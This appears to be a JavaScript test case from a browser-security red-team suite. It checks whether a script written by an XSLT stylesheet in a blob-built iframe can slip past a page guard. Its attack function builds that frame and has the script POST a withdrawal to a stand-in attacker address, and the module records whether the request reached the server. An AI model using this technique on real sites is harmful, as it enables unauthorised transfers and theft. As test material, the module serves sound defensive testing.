// E05: a frame shows an XML document made of a blob, which a stylesheet made of another blob turns into a document with a script.
import { reachedServer } from './logs.mjs';

export default {
  id: 'E05',
  title: 'script that a stylesheet (XSLT) writes, in a frame',
  source: 'own red team',
  level: { needs: 'Content-Security-Policy: frame-src {other}' },
  engines: {
    firefox: 'the guard holds there without the header',
    webkit: 'the guard holds there without the header',
  },
  why: 'what a stylesheet makes of a document is a second document, whose script runs before it can be covered; a frame-src without the own origin stops the first',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const script = `fetch('${location.origin}/api/withdraw', { method: 'POST', body: JSON.stringify({ to: '${a.EVIL}' }) })`;
    const made = (text, type) => URL.createObjectURL(new Blob([text], { type }));
    const sheet = made(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><html><body><script>${script}</scr` +
        'ipt></body></html></xsl:template></xsl:stylesheet>',
      'text/xsl',
    );
    const frame = document.createElement('iframe');
    frame.src = made(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${sheet}"?><page/>`, 'text/xml');
    document.documentElement.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 2000));
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },

  stolen: ({ http, a }) => reachedServer(http, a.EVIL, '/api/withdraw'),
  arrived: ({ http, a }) => reachedServer(http, a.GOOD, '/api/withdraw'),
};
